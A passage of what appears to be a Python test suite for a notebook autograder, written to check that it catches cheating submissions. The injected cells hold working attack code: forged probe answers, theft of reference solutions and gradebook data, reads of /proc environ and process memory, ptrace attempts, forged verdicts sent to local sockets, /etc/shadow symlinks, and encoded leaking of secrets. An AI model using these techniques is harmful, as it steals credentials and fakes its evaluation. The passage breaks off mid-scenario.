          "conv_block and compile_model not written; right after the setup cell an input "
          "transformer that reads each probe request the judge sends (it arrives as code), computes by "
          "formula what a correct function's probe would answer (layer table, outputs, compile "
          "configuration) and replaces the code with one that publishes that answer, right id and "
          "MIME included. Whatever a kernel computes about itself is forgeable",
          ("02_encoder", "05_training"), expect({}, STUB + r"|forg|answer", targets=["conv_block", "compile_model",
                                                                                     "pixel_accuracy", "mean_iou"]),
          tags=("forging", "protocol"))
def _(ctx):
    books = {"02_encoder": ctx.release("02_encoder"), "05_training": ctx.release("05_training")}
    for nb in books.values():
        ctx.insert_after(nb, "setup", PROBE_FORGER + code('''


            def _rewrite(lines):
                text = "".join(lines)
                if "_rewrite" in text:
                    return lines
                request, mime = _request_of(text)
                if request is None or mime is None:
                    return lines
                value = _forged_value(request)
                if value is None:
                    return lines
                return [f"from IPython.display import publish_display_data as _p\\n_p({{{mime!r}: {_reply(request, value)!r}}})\\n"]


            _get_ipython().input_transformers_cleanup.insert(0, _rewrite)
        '''))
    ctx.drop_calls(books["05_training"], "compile_model")
    return files_of(books)


@scenario("forge-probe-answers-last-wins",
          "unet_model not written; an input transformer only reads each probe request, and a "
          "post_execute event (it fires for silent executions too) publishes a second answer, forged "
          "by formula, after the agent's own: a judge that keeps the last answer takes the forgery",
          ("04_unet",), expect(zero("unet_model"), STUB + r"|forg|answer", targets=["unet_model"]),
          tags=("forging", "protocol"))
def _(ctx):
    nb = ctx.release("04_unet")
    ctx.insert_after(nb, "setup", PROBE_FORGER + code('''


        _PENDING = []


        def _spy(lines):
            request, mime = _request_of("".join(lines))
            if request is not None and mime is not None:
                value = _forged_value(request)
                if value is not None:
                    _PENDING.append((mime, _reply(request, value)))
            return lines


        def _after():
            while _PENDING:
                mime, reply = _PENDING.pop()
                _publish({mime: reply})


        _get_ipython().input_transformers_cleanup.append(_spy)
        _get_ipython().events.register("post_execute", _after)
    '''))
    ctx.drop_calls(nb, "unet_model", "draw_unet", "layout")
    return files_of({"04_unet": nb})


@scenario("delegate-rebound-after-tests",
          "05_training: compile_model solved; pixel_accuracy and mean_iou are wrong in their own cells "
          "(a code check of the cells up to each test sees nothing wrong), and a cell after the last "
          "test rebinds both to course.metrics: what the judge then calls is the library. By principle 7",
          ("05_training",), expect({**full("05_training"), **zero("pixel_accuracy", "mean_iou")},
                                   r"library|delegat|course|expected|differ|not",
                                   targets=["pixel_accuracy", "mean_iou"]), tags=("delegation",))
def _(ctx):
    nb = ctx.solved("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        def pixel_accuracy(y_true, y_pred):
            """Share of pixels whose predicted class is the true class."""
            return float(np.mean(np.asarray(y_true) != np.asarray(y_pred)))
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            """Mean IoU (not finished)."""
            return 0.0
    '''))
    ctx.append(nb, '''
        from course import metrics as _m

        pixel_accuracy, mean_iou = _m.pixel_accuracy, _m.mean_iou
    ''')
    return files_of({"05_training": nb})


@scenario("delegate-shadowed-before-tests",
          "05_training: compile_model solved; pixel_accuracy and mean_iou have honest-looking but wrong "
          "definitions, each followed (before its test) by a cell that shadows the name with the "
          "library's: `from course.metrics import pixel_accuracy`, and an assignment from a module "
          "found by an obfuscated name. A code check that reads the def sees nothing. By principle 7",
          ("05_training",), expect({**full("05_training"), **zero("pixel_accuracy", "mean_iou")},
                                   r"library|delegat|course|expected|differ|not",
                                   targets=["pixel_accuracy", "mean_iou"]), tags=("delegation",))
def _(ctx):
    nb = ctx.solved("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        def pixel_accuracy(y_true, y_pred):
            """Share of pixels whose predicted class is the true class."""
            return float(np.mean(np.asarray(y_true) != np.asarray(y_pred)))
    '''))
    ctx.insert_after(nb, "pixel_accuracy", "from course.metrics import pixel_accuracy  # to compare with mine\n")
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            """Mean IoU (not finished)."""
            return 0.0
    '''))
    ctx.insert_after(nb, "mean_iou", code('''
        import base64, importlib

        mean_iou = vars(importlib.import_module(base64.b64decode("Y291cnNlLm1ldHJpY3M=").decode()))["mean_iou"]
    '''))
    return files_of({"05_training": nb})


# Reading the reference or the expected values ---------------------------------------------------

STEAL_EARLIER = r'''
import os

os.environ.setdefault("NBGRADER_EXECUTION", "autograde")  # take the "grading" path of course.earlier
from course import earlier as _earlier


def _works(function):
    return callable(function) and not getattr(function, "missing_reason", None)


def _steal(name):
    attempts = (lambda: _earlier.earlier_functions(name, quiet=True),
                lambda: _earlier.reference_source([name])[name],
                lambda: __import__("course.reference", fromlist=["reference_function"]).reference_function(name))
    for attempt in attempts:
        try:
            candidate = attempt()
        except Exception as error:
            print(f"{name}: no luck ({type(error).__name__}: {str(error)[:200]})")
            continue
        if _works(candidate):
            print(f"{name}: using the instructor's")
            return candidate
    return None
'''


@scenario("steal-earlier-functions-self",
          "02_encoder and 03_decoder ask course.earlier.earlier_functions / reference_source and "
          "course.reference.reference_function (NBGRADER_EXECUTION forced) for the very functions they "
          "are graded on, and use them if they come",
          ("02_encoder", "03_decoder"),
          expect({}, STUB + r"|reference", targets=["conv_block", "transposed_output_size", "transposed_conv2d",
                                                     "upsampling_block"]), tags=("reference",))
def _(ctx):
    books = {"02_encoder": ctx.release("02_encoder"), "03_decoder": ctx.release("03_decoder")}
    ctx.insert_after(books["02_encoder"], "conv_block", STEAL_EARLIER + code('''

        conv_block = _steal("conv_block") or conv_block
    '''))
    ctx.insert_after(books["03_decoder"], "upsampling_block", STEAL_EARLIER + code('''

        transposed_output_size = _steal("transposed_output_size") or transposed_output_size
        transposed_conv2d = _steal("transposed_conv2d") or transposed_conv2d
        upsampling_block = _steal("upsampling_block") or upsampling_block
    '''))
    return files_of(books)


WRONG_CONV_BLOCK = code('''
    def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
        """One convolution only (wrong), but it runs."""
        features = layers.Conv2D(n_filters, 3, activation="relu", padding="same")(inputs)
        next_layer = layers.MaxPooling2D(2)(features) if max_pooling else features
        return next_layer, features
''')


@scenario("steal-reference-env",
          "conv_block is wrong (one convolution); a cell searches every folder named by an environment "
          "variable (the earlier-reference folder, COURSE_SOURCE_DIR, ...) and the repository's "
          "instructor/source for a notebook defining a two-convolution conv_block and uses it; failing "
          "that it points COURSE_SOURCE_DIR and every *REFERENCE*/*EARLIER*/*SOURCE* variable at "
          "its own fake_source/ (handed in), so that a reference computed in the kernel is itself",
          ("02_encoder",), expect(zero("conv_block"), LOST, targets=["conv_block"]), tags=("reference",))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", WRONG_CONV_BLOCK)
    ctx.insert_after(nb, "conv_block", '''
        import glob, importlib, inspect, os
        from pathlib import Path
        import course
        from course.notebook_code import load_definitions


        def _two_convolutions(function):
            try:
                return inspect.getsource(function).count("Conv2D(") >= 2
            except (OSError, TypeError):
                return False


        folders = []
        for key, value in sorted(os.environ.items()):
            for part in value.split(os.pathsep):
                if part and os.path.isdir(part) and part not in folders and part not in ("/", "/usr", "/bin", "/tmp"):
                    folders.append(part)
        folders.append(str(Path(course.__file__).resolve().parents[1] / "instructor" / "source" / "unet"))
        stolen = None
        for folder in folders:
            paths = sorted(glob.glob(os.path.join(folder, "*.ipynb")) + glob.glob(os.path.join(folder, "*", "*.ipynb")))
            for path in paths[:60]:
                try:
                    namespace = load_definitions(path)
                except Exception:
                    continue
                if _two_convolutions(namespace.get("conv_block")):
                    stolen = namespace["conv_block"]
                    print("conv_block found in", path)
                    break
            if stolen is not None:
                break
        if stolen is not None:
            conv_block = stolen
        else:
            fake = os.path.abspath("fake_source")
            for key in list(os.environ):
                if any(word in key.upper() for word in ("REFERENCE", "EARLIER", "SOURCE", "SOLUTION")):
                    os.environ[key] = fake
            os.environ["COURSE_SOURCE_DIR"] = fake
            import course.reference
            importlib.reload(course.reference)
            print("the reference is now my own conv_block")
    ''')
    fake = ctx.with_solution(ctx.release("02_encoder"), "conv_block", WRONG_CONV_BLOCK)
    return {"02_encoder.ipynb": nb, "fake_source/02_encoder.ipynb": fake}


@scenario("steal-fs-walk",
          "03_decoder walks the whole file system it can see (60 s, 300000 files, no links followed) for "
          "notebooks, Python files, JSON, sqlite databases holding solutions or hidden tests, the "
          "gradebook at its known path included; loads any real upsampling_block / transposed_* it "
          "finds and prints what it found, plain and encoded",
          ("03_decoder",), expect({}, STUB + r"|reference", targets=["transposed_output_size", "transposed_conv2d",
                                                                      "upsampling_block"],
                                  no_leak=["solution", "hidden"]), tags=("reference", "leak"))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.insert_after(nb, "upsampling_block", LEAK_CODE + code(f'''

        import os, sqlite3, time
        from pathlib import Path
        import course
        from course.notebook_code import load_definitions

        GRADEBOOK = {str(ctx.gradebook)!r}
        WANTED = ("upsampling_block", "transposed_conv2d", "transposed_output_size")
        MARKERS = ("### BEGIN SOLUTION", "### BEGIN HIDDEN TESTS", "SQLite format 3")
        SUFFIXES = (".ipynb", ".py", ".json", ".db", ".sqlite", ".txt", ".html", ".log")
        start, seen, secrets, stolen = time.time(), 0, [], {{}}
        repository = Path(course.__file__).resolve().parents[1]
        roots = ["/", os.path.expanduser("~"), os.getcwd(), "/tmp", str(repository), os.path.dirname(GRADEBOOK)]
        for root in dict.fromkeys(roots):
            for folder, dirs, files in os.walk(root, followlinks=False):
                if folder == "/":
                    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                for name in files:
                    seen += 1
                    path = os.path.join(folder, name)
                    if seen > 300000 or time.time() - start > 60 or not name.endswith(SUFFIXES):
                        continue
                    try:
                        if os.path.getsize(path) > 20_000_000:
                            continue
                        with open(path, "rb") as handle:
                            data = handle.read()
                    except OSError:
                        continue
                    text = data.decode("utf-8", "replace")
                    if any(marker in text for marker in MARKERS):
                        secrets.append(path)
                    if name.endswith(".ipynb") and any(f"def {{w}}(" in text for w in WANTED):
                        try:
                            namespace = load_definitions(path)
                        except Exception:
                            continue
                        for wanted in WANTED:
                            function = namespace.get(wanted)
                            if callable(function) and "NotImplementedError" not in text.split(f"def {{wanted}}(")[1][:3000]:
                                stolen.setdefault(wanted, function)
        print("visited", seen, "files;", len(secrets), "hold solutions or hidden tests")
        _leak("secret-paths", "\\n".join(secrets))
        for path in secrets[:15]:
            try:
                if path.endswith((".db", ".sqlite")):
                    with sqlite3.connect(f"file:{{path}}?mode=ro", uri=True) as db:
                        rows = [repr(row) for table, in db.execute("select name from sqlite_master where type='table'")
                                for row in db.execute(f"select * from {{table}}")]
                    _leak("db-" + os.path.basename(path), "\\n".join(rows))
                else:
                    _leak("file-" + os.path.basename(path), open(path, "rb").read()[:300000])
            except Exception as error:
                print(path, error)
        for wanted, function in stolen.items():
            globals()[wanted] = function
            print("using the", wanted, "found on disk")
    '''))
    return files_of({"03_decoder": nb})


@scenario("steal-proc-and-judge",
          "conv_block not written; a cell reads /proc/*/{cmdline,environ,status,maps,cwd,root} of every "
          "process it can see, the parent's memory, tries ptrace on its parent and pid 1, connects to "
          "every unix socket in /proc/net/unix and every listening TCP port with a forged verdict, "
          "tries the network, and prints it all, plain and encoded",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"], no_leak=["environ", "hidden"]),
          tags=("reference", "judge", "leak"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.append(nb, LEAK_CODE + code('''

        import ctypes, os, socket

        report, me = [], os.getpid()
        for entry in sorted(os.listdir("/proc")):
            if not entry.isdigit() or int(entry) == me:
                continue
            for part in ("cmdline", "environ", "status", "maps", "cwd", "root"):
                path = f"/proc/{entry}/{part}"
                try:
                    if part in ("cwd", "root"):
                        report.append(f"{path} -> {os.readlink(path)}: {sorted(os.listdir(path))[:50]}")
                    else:
                        with open(path, "rb") as handle:
                            report.append(f"{path}: {handle.read()[:20000]!r}")
                except OSError as error:
                    report.append(f"{path}: {error.strerror}")
        parent = os.getppid()
        try:
            with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb") as memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line.split()[1]:
                        memory.seek(start)
                        report.append(f"parent memory {line.strip()}: {memory.read(min(end - start, 4096))!r}")
                        break
        except (OSError, ValueError) as error:
            report.append(f"parent memory: {error}")
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (parent, 1):
            result = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
            report.append(f"ptrace attach {pid}: {result} (errno {ctypes.get_errno()})")
            if result == 0:
                libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        forged = b'{"verdict": "pass", "score": 100, "passed": true}\\n'
        try:
            unix = open("/proc/net/unix").read().splitlines()[1:]
        except OSError:
            unix = []
        for line in unix[:200]:
            fields = line.split()
            if len(fields) < 8:
                continue
            address = "\\0" + fields[7][1:] if fields[7].startswith("@") else fields[7]
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                    sock.settimeout(1)
                    sock.connect(address)
                    sock.sendall(forged)
                    report.append(f"unix {fields[7]}: sent, got {sock.recv(200)!r}")
            except OSError as error:
                report.append(f"unix {fields[7]}: {error}")
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                lines = open(table).read().splitlines()[1:]
            except OSError:
                continue
            for line in lines:
                fields = line.split()
                if fields[3] != "0A":  # LISTEN
                    continue
                port = int(fields[1].split(":")[1], 16)
                try:
                    with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
                        sock.sendall(b"POST /verdict HTTP/1.0\\r\\n\\r\\n" + forged)
                        report.append(f"tcp {port}: {sock.recv(200)!r}")
                except OSError as error:
                    report.append(f"tcp {port}: {error}")
        for host, port in (("1.1.1.1", 53), ("pypi.org", 443)):
            try:
                socket.create_connection((host, port), timeout=3).close()
                report.append(f"network {host}:{port}: connected")
            except OSError as error:
                report.append(f"network {host}:{port}: {error}")
        _leak("proc-and-sockets", "\\n".join(report))
    '''))
    return files_of({"02_encoder": nb})


@scenario("steal-from-caller-frames",
          "pixel_accuracy and mean_iou look up the call stack (locals and globals of every frame "
          "above them) and the whole heap (gc) for anything named like an expected value, and return "
          "it; they print the callers' names (PROBE-ARGS lines) so the feedback shows the judge's "
          "machinery; 0.5 if nothing is found",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"],
                                   no_leak=["probe-output"]), tags=("reference",))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        import gc, numbers, sys

        _WORDS = ("expected", "want", "reference", "answer", "truth", "correct", "target")


        def _number(value):
            return isinstance(value, numbers.Real) and not isinstance(value, bool) and 0 <= float(value) <= 1


        def _from_callers():
            frame, callers = sys._getframe(2), []
            while frame is not None and len(callers) < 60:
                callers.append(f"{frame.f_globals.get('__name__')}.{frame.f_code.co_name}")
                for scope in (frame.f_locals, frame.f_globals):
                    for name, value in list(scope.items()):
                        if any(word in name.lower() for word in _WORDS):
                            if _number(value):
                                return float(value), callers
                            if isinstance(value, dict):
                                for inner in value.values():
                                    if _number(inner):
                                        return float(inner), callers
                frame = frame.f_back
            for obj in gc.get_objects():
                if isinstance(obj, dict) and any(word in str(key) for key in list(obj)[:20] for word in _WORDS):
                    for key, value in list(obj.items()):
                        if any(word in str(key) for word in _WORDS) and _number(value):
                            return float(value), callers
            return None, callers


        def pixel_accuracy(y_true, y_pred):
            value, callers = _from_callers()
            print("PROBE-ARGS: called by " + " <- ".join(callers))
            return 0.5 if value is None else value
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            value, callers = _from_callers()
            print("PROBE-ARGS: called by " + " <- ".join(callers))
            return 0.5 if value is None else value
    '''))
    ctx.drop_calls(nb, "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


@scenario("steal-cross-notebook-carry",
          "04_unet solved, and its last cell copies the earlier reference (inspect.getsource of the "
          "reference conv_block and upsampling_block, and every folder an environment variable names) "
          "into the working folder, home, /tmp, /var/tmp, /dev/shm; 02_encoder's conv_block is not "
          "written but execs any such copy it finds (works if folders outlive a kernel or the order "
          "of grading changes)",
          ("04_unet", "02_encoder"),
          expect({**full("04_unet"), **zero("conv_block")}, STUB, targets=["conv_block"], no_leak=["solution"]),
          tags=("reference", "persistence"))
def _(ctx):
    unet = ctx.solved("04_unet")
    ctx.append(unet, '''
        import glob, inspect, os, shutil

        text = "import tensorflow as tf\\nfrom tensorflow.keras import layers\\n\\n"
        for function in (conv_block, upsampling_block):
            try:
                text += inspect.getsource(function) + "\\n\\n"
            except (OSError, TypeError) as error:
                print(function, error)
        folders = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")]
        for folder in dict.fromkeys(folders):
            try:
                with open(os.path.join(folder, "reference_blocks.py"), "w") as handle:
                    handle.write(text)
            except OSError as error:
                print(folder, error)
            for key, value in os.environ.items():
                if os.path.isdir(value) and glob.glob(os.path.join(value, "*.ipynb")) + glob.glob(os.path.join(value, "*.py")):
                    try:
                        shutil.copytree(value, os.path.join(folder, "ref-" + key), dirs_exist_ok=True)
                    except (OSError, shutil.Error) as error:
                        print(key, error)
    ''')
    encoder = ctx.release("02_encoder")
    ctx.insert_after(encoder, "conv_block", '''
        import glob, os
        from course.notebook_code import load_definitions

        for folder in dict.fromkeys([os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm",
                                     os.environ.get("TMPDIR", "/tmp")]):
            path = os.path.join(folder, "reference_blocks.py")
            if os.path.exists(path):
                exec(open(path).read())
                print("conv_block from", path)
                break
            for notebook in glob.glob(os.path.join(folder, "ref-*", "02_encoder.ipynb")):
                conv_block = load_definitions(notebook)["conv_block"]
                print("conv_block from", notebook)
    ''')
    return files_of({"04_unet": unet, "02_encoder": encoder})


@scenario("probe-files-tampering",
          "decode_image and decode_mask do not decode: around the file the judge hands them they look "
          "for expected-answer files (*expected*, *answer*, *reference*, *truth* .npy/.json) and return "
          "one if found; they replace the file's siblings by links to /etc/shadow, the gradebook and "
          "/proc/self/environ, plant result/answer/expected links, and overwrite the file itself with an "
          "all-zero PNG of the same size, then return zeros (a judge that computes expected values from "
          "the file after the call agrees). Files under the course repository are left alone",
          ("01_data",), expect({}, LOST, targets=list(tests_in("01_data")), no_leak=["shadow", "environ", "hidden"],
                               gradebook_unchanged=True), tags=("judge", "forging"))
def _(ctx):
    nb = ctx.release("01_data")
    ctx.replace_function(nb, "decode_image", code(f'''
        import glob, json
        from PIL import Image

        GRADEBOOK = {str(ctx.gradebook)!r}
        REPOSITORY = {str(ctx.repo)!r}
        _WORDS = ("expected", "answer", "reference", "truth")


        def _tamper(path, channels, dtype):
            folder = os.path.dirname(os.path.abspath(path))
            found = None
            for candidate in glob.glob(os.path.join(folder, "*")) + glob.glob(os.path.join(folder, "..", "*")):
                name = os.path.basename(candidate).lower()
                if any(word in name for word in _WORDS) and name.endswith((".npy", ".json")):
                    try:
                        found = np.load(candidate) if name.endswith(".npy") else np.asarray(json.load(open(candidate)))
                        print("PROBE-ARGS: found", candidate)
                    except Exception:
                        pass
            with Image.open(path) as picture:
                width, height = picture.size
            if os.path.abspath(path).startswith(REPOSITORY):
                return found, np.zeros((height, width, channels), dtype)
            targets = ("/etc/shadow", GRADEBOOK, "/proc/self/environ")
            for index, sibling in enumerate(sorted(glob.glob(os.path.join(folder, "*")))):
                if os.path.abspath(sibling) == os.path.abspath(path):
                    continue
                try:
                    os.unlink(sibling)
                    os.symlink(targets[index % 3], sibling)
                except OSError:
                    pass
            for index, name in enumerate(("result.npy", "answer.json", "expected.npy", "reply.json")):
                try:
                    os.symlink(targets[index % 3], os.path.join(folder, name))
                except OSError:
                    pass
            zeros = np.zeros((height, width, channels), dtype)
            try:
                Image.fromarray(np.zeros((height, width, 3), np.uint8)).save(path, format="PNG")
            except OSError:
                pass
            return found, zeros


        def _path(path):
            if hasattr(path, "numpy"):
                path = path.numpy()
            return path.decode() if isinstance(path, bytes) else str(path)


        def decode_image(path):
            found, zeros = _tamper(_path(path), 3, np.float32)
            return tf.constant(zeros if found is None else found)
    '''))
    ctx.replace_function(nb, "decode_mask", code('''
        def decode_mask(path):
            found, zeros = _tamper(_path(path), 1, np.uint8)
            return tf.constant(zeros if found is None else found)
    '''))
    ctx.drop_calls(nb, "decode_image", "decode_mask")
    return files_of({"01_data": nb})


# Delegating to the library or TensorFlow (by principle no honest work: 0) ------------------------

@scenario("delegate-to-library",
          "01_data functions are one-line calls of the course library's twins (course.data.pair_files, "
          "decode_image, decode_mask, resize_pair, split_pairs, make_dataset): no exercise is done. "
          "Values alone cannot tell; by principle 0",
          ("01_data",), expect({}, r"library|delegat|course\.data|not|fail", targets=list(tests_in("01_data"))),
          tags=("delegation",))
def _(ctx):
    nb = ctx.release("01_data")
    for grade_id, call in (("pair_files", "library.pair_files(data_dir)"),
                           ("decode_image", "library.decode_image(path)"),
                           ("decode_mask", "library.decode_mask(path)"),
                           ("resize_pair", "library.resize_pair(image, mask, size)"),
                           ("split_pairs", "list(library.split_pairs(pairs, validation_fraction, seed))"),
                           ("make_dataset", "library.make_dataset(pairs, batch_size=batch_size, shuffle=shuffle, seed=seed)")):
        stub = ctx.stub_code(grade_id)
        signature = stub[:stub.index(":\n") + 2]
        ctx.replace_function(nb, grade_id, f"from course import data as library\n\n\n{signature}    return {call}\n")
    return files_of({"01_data": nb})


@scenario("delegate-copied-library-source",
          "05_training: compile_model solved; pixel_accuracy calls course.metrics.pixel_accuracy, "
          "mean_iou runs a copy of course/metrics.py read from disk under another name (found via an "
          "obfuscated module name: no 'course.metrics' in the cell). By principle 0 for both",
          ("05_training",), expect({**full("05_training"), **zero("pixel_accuracy", "mean_iou")},
                                   r"library|delegat|course|not|fail", targets=["pixel_accuracy", "mean_iou"]),
          tags=("delegation",))
def _(ctx):
    nb = ctx.solved("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        from course import metrics as reference_metrics


        def pixel_accuracy(y_true, y_pred):
            return reference_metrics.pixel_accuracy(y_true, y_pred)
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        import base64, importlib.util

        _spec = importlib.util.find_spec(base64.b64decode("Y291cnNlLm1ldHJpY3M=").decode())
        _helpers = {"__name__": "my_helpers"}
        exec(compile(open(_spec.origin).read(), "my_helpers.py", "exec"), _helpers)


        def mean_iou(y_true, y_pred, n_classes=23):
            return float(_helpers["mean_iou"](y_true, y_pred, n_classes))
    '''))
    return files_of({"05_training": nb})


# A transposed convolution handed to TensorFlow: the delegation scenarios' shared text.
TF_TRANSPOSED = '''
def _spread_with_tf(x, kernel, stride=2):
    height, width, _ = x.shape
    kernel_height, kernel_width, out_channels, _ = kernel.shape
    shape = (1, (height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels)
    result = tf.nn.conv2d_transpose(x[None].astype(np.float64), kernel.astype(np.float64), shape,
                                    strides=stride, padding="VALID")
    return result[0].numpy().astype(np.result_type(x, kernel))
'''


@scenario("delegate-to-tensorflow",
          "03_decoder: transposed_output_size solved honestly; transposed_conv2d is "
          "tf.nn.conv2d_transpose (the exercise is to spread pixels in NumPy); upsampling_block not "
          "written. By principle 5 points",
          ("03_decoder",), expect(full_of("test_transposed_output_size"), r"tensorflow|delegat|conv2d_transpose|not|fail",
                                  targets=["transposed_conv2d", "upsampling_block"]), tags=("delegation",))
def _(ctx):
    nb = ctx.solved("03_decoder", except_=("upsampling_block",))
    ctx.replace_function(nb, "transposed_conv2d", code(TF_TRANSPOSED.replace("_spread_with_tf", "transposed_conv2d")))
    return files_of({"03_decoder": nb})


# What is probed is what was read (issue 23): a rebinding after the def, through any namespace, or a
# library hidden in a default argument, changes nothing that is called.

@scenario("probe-rebind-after-stub",
          "03_decoder: transposed_output_size solved; transposed_conv2d's cell keeps the release's stub def, "
          "then binds the name to a tf.nn.conv2d_transpose function through sys.modules['__main__'] (the code "
          "check read the stub and stopped; the probe called the rebound name). By principle 5, flagged",
          ("03_decoder",), expect(full_of("test_transposed_output_size"), r"not written yet",
                                  targets=["transposed_conv2d"], flagged=True), tags=("probe",))
def _(ctx):
    nb = ctx.solved("03_decoder", except_=("transposed_conv2d", "upsampling_block"))
    ctx.replace_function(nb, "transposed_conv2d", ctx.stub_code("transposed_conv2d") + TF_TRANSPOSED + code('''
        import sys

        sys.modules["__main__"].transposed_conv2d = _spread_with_tf
    '''))
    return files_of({"03_decoder": nb})


@scenario("probe-rebind-through-user-ns",
          "03_decoder: transposed_output_size solved; transposed_conv2d written wrong (zeros of the right "
          "shape), then a later cell binds the name to a tf.nn.conv2d_transpose function through "
          "get_ipython().user_ns. By principle 5 (the wrong def is what is graded), flagged",
          ("03_decoder",), expect(full_of("test_transposed_output_size"), LOST,
                                  targets=["transposed_conv2d"], flagged=True), tags=("probe",))
def _(ctx):
    nb = ctx.solved("03_decoder", except_=("upsampling_block",))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            return np.zeros(((height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width,
                             out_channels), dtype=np.result_type(x, kernel))
    '''))
    ctx.insert_after(nb, "transposed_conv2d", TF_TRANSPOSED + code('''
        get_ipython().user_ns["transposed_conv2d"] = _spread_with_tf
    '''))
    return files_of({"03_decoder": nb})


@scenario("probe-library-in-default-argument",
          "03_decoder: transposed_output_size solved; transposed_conv2d calls tf.nn.conv2d_transpose through "
          "a default argument bound to an alias made at the top of its cell. By principle 5",
          ("03_decoder",), expect(full_of("test_transposed_output_size"), r"tensorflow|delegat|by hand",
                                  targets=["transposed_conv2d"]), tags=("probe",))
def _(ctx):
    nb = ctx.solved("03_decoder", except_=("upsampling_block",))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        _spread = tf.nn.conv2d_transpose


        def transposed_conv2d(x, kernel, stride=2, _op=_spread):
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            shape = (1, (height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels)
            result = _op(x[None].astype(np.float64), kernel.astype(np.float64), shape, strides=stride,
                         padding="VALID")
            return result[0].numpy().astype(np.result_type(x, kernel))
    '''))
    return files_of({"03_decoder": nb})


@scenario("determinism-memo-in-a-decorator",
          "01_data solved, but split_pairs shuffles with the global (unseeded) generator and hides it behind a "
          "memo decorator, so that two calls with the same arguments in one kernel agree: the kernel calls the "
          "def afresh for each question, memo and all. By principle split_pairs 0",
          ("01_data",), expect({**full("01_data"), **zero("split_pairs")}, r"different split|called again",
                               targets=["split_pairs"]), tags=("probe",))
def _(ctx):
    nb = ctx.solved("01_data")
    ctx.replace_function(nb, "split_pairs", code('''
        import functools
        import random as _unseeded


        def _remember(function):
            seen = {}

            @functools.wraps(function)
            def remembered(*args, **kwargs):
                key = repr((args, sorted(kwargs.items())))
                if key not in seen:
                    seen[key] = function(*args, **kwargs)
                return seen[key]
            return remembered


        @_remember
        def split_pairs(pairs, validation_fraction=0.2, seed=0):
            pairs = sorted(pairs)
            order = list(range(len(pairs)))
            _unseeded.shuffle(order)
            n_validation = round(len(pairs) * validation_fraction)
            chosen = set(order[:n_validation])
            return ([pair for index, pair in enumerate(pairs) if index not in chosen],
                    [pair for index, pair in enumerate(pairs) if index in chosen])
    '''))
    return files_of({"01_data": nb})


# Leaking hidden material into the feedback -------------------------------------------------------

@scenario("leak-feedback-dump",
          "04_unet not written; its last cell prints, plain and encoded (zlib+base64, base64, hex, "
          "rot13) on stdout, stderr and as HTML/JSON display data: the source of the earlier reference "
          "conv_block and upsampling_block, every linecache entry of loaded definitions, every file in "
          "every folder an environment variable names, the environment, In/Out, and the sources of the "
          "course/test_utils/grader modules loaded",
          ("04_unet",), expect(zero("unet_model"), STUB, targets=["unet_model"],
                               no_leak=["solution", "hidden", "environ"]), tags=("leak",))
def _(ctx):
    nb = ctx.release("04_unet")
    ctx.append(nb, LEAK_CODE + code('''

        import inspect, json, linecache, os, sys
        from IPython import get_ipython

        shell = get_ipython()
        for function in (conv_block, upsampling_block):
            try:
                _leak("source-" + function.__name__, inspect.getsource(function))
            except (OSError, TypeError) as error:
                print(function, error)
        for name, entry in list(linecache.cache.items()):
            if str(name).startswith("<") and len(entry) > 2 and entry[2]:
                _leak("linecache-" + str(name), "".join(entry[2]))
        count = 0
        for key, value in sorted(os.environ.items()):
            if not os.path.isdir(value) or value in ("/", "/usr", "/bin", "/tmp"):
                continue
            for folder, dirs, files in os.walk(value):
                for name in files:
                    path = os.path.join(folder, name)
                    if count < 40 and os.path.getsize(path) < 2_000_000 and not name.endswith((".pyc", ".so")):
                        count += 1
                        _leak(f"env-{key}-{name}", open(path, "rb").read())
        _leak("environ", json.dumps(dict(os.environ), indent=1))
        _leak("history-In", "\\n#---\\n".join(shell.user_ns.get("In", [])))
        _leak("history-Out", repr(shell.user_ns.get("Out", {}))[:100000])
        for module_name, module in sorted(sys.modules.items()):
            if module_name.split(".")[0] in ("course", "test_utils", "grader", "judge") and getattr(module, "__file__", None):
                try:
                    _leak("module-" + module_name, open(module.__file__, "rb").read())
                except OSError:
                    pass
    '''))
    ctx.drop_calls(nb, "unet_model", "draw_unet", "layout")
    return files_of({"04_unet": nb})


@scenario("leak-probe-inputs",
          "pixel_accuracy, mean_iou and compile_model record every argument the judge calls them with "
          "(PROBE-ARGS lines: npz in base64, on stdout, stderr and display data) so that the hidden "
